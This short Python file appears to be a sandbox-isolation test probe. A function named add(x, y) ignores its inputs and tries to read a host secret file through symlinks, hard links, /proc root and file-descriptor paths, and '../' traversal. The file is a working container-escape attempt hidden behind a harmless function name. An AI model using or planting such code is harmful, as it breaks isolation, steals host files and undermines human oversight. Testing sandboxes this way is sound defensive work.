# Reaches for a host file through links, other roots and open folders.
import os

SECRET = "@FOLDER@/secret.txt"
UP = "../" * 30


def attempts():
    os.symlink(SECRET, "/tmp/soft")
    yield "/tmp/soft"
    try:
        os.link(SECRET, "/tmp/hard")
    except OSError:
        pass
    yield "/tmp/hard"
    for root in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/" + UP, "/proc/thread-self/root", "/.old", "/mnt"):
        yield root + SECRET
    for number in range(64):
        yield f"/proc/self/fd/{number}/{UP}{SECRET}"
    for number in range(2, 50):
        yield f"/proc/{number}/root{SECRET}"


def add(x, y):
    for path in attempts():
        try:
            with open(path) as handle:
                return handle.read().strip()
        except OSError:
            continue
    return "nothing"
